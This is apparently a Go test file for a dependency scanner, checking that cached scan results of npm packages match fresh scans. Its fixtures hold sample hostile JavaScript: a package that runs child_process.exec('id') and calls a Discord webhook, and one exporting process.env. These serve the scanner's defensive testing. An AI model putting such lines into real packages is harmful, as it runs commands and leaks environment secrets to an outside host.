package code_test

import (
	"strings"
	"testing"
	"testing/fstest"

	"github.com/google/go-cmp/cmp"

	"github.com/mcpsf/mcpsf/internal/static/code"
)

// fakeMemory is a memory that counts its uses.
type fakeMemory struct {
	values     map[string][]byte
	hits, puts int
}

func (n *fakeMemory) Get(key string) ([]byte, bool) {
	v, ok := n.values[key]
	if ok {
		n.hits++
	}
	return v, ok
}

func (n *fakeMemory) Put(key string, value []byte) { n.values[key], n.puts = value, n.puts+1 }

func withDependencies() fstest.MapFS {
	text := func(s string) *fstest.MapFile { return &fstest.MapFile{Data: []byte(s), Mode: 0o644} }
	return fstest.MapFS{
		"index.js":                           text(`require("a")`),
		"node_modules/a/package.json":        text(`{"name":"a","version":"1.0.0"}`),
		"node_modules/a/index.js":            text(`require("child_process").exec("id"); fetch("https://discord.com/api/webhooks/1/abcdefghijklmnop")`),
		"node_modules/a/broken.js":           text(`function (`),
		"node_modules/a/picture.js":          {Data: []byte{0, 1, 2, 0xff, 0, 0, 0}, Mode: 0o644},
		"node_modules/@scope/b/package.json": text(`{"name":"@scope/b","version":"2.0.0"}`),
		"node_modules/@scope/b/main.js":      text(`module.exports = process.env`),
	}
}

// The stored result equals that of a new reading.
func TestMemory(t *testing.T) {
	memory := &fakeMemory{values: map[string][]byte{}}
	scan := func(fsys fstest.MapFS, m code.Memory) *code.Result {
		r, err := code.Read(t.Context(), fsys, &code.Options{Self: self(t, "read-source"), Memory: m})
		if err != nil {
			t.Fatal(err)
		}
		return r
	}
	plain := scan(withDependencies(), nil)
	for i := range 2 {
		if diff := cmp.Diff(plain, scan(withDependencies(), memory)); diff != "" {
			t.Errorf("reading %d (-without memory +with):\n%s", i, diff)
		}
	}
	if memory.puts != 2 || memory.hits != 2 {
		t.Errorf("%d put, %d found, want 2 and 2", memory.puts, memory.hits)
	}
	changed := withDependencies()
	changed["node_modules/@scope/b/main.js"].Data = []byte(`require("child_process").exec("id")`)
	r := scan(changed, memory)
	if memory.puts != 3 || !strings.Contains(cmp.Diff(plain, r), "b@2.0.0") {
		t.Errorf("one byte is another, and the same came out; %d put", memory.puts)
	}
}

// A package that was not read completely for lack of time is read again.
func TestMemoryOfLost(t *testing.T) {
	memory := &fakeMemory{values: map[string][]byte{}}
	fsys := fstest.MapFS{
		"node_modules/a/package.json": {Data: []byte(`{"name":"a","version":"1.0.0"}`)}, "node_modules/a/die.js": {Data: []byte(`x()`)},
	}
	if _, err := code.Read(t.Context(), fsys, &code.Options{Self: self(t, "read-badly"), Memory: memory}); err != nil {
		t.Fatal(err)
	}
	if memory.puts != 0 {
		t.Errorf("%d packages are remembered that nobody could read", memory.puts)
	}
}
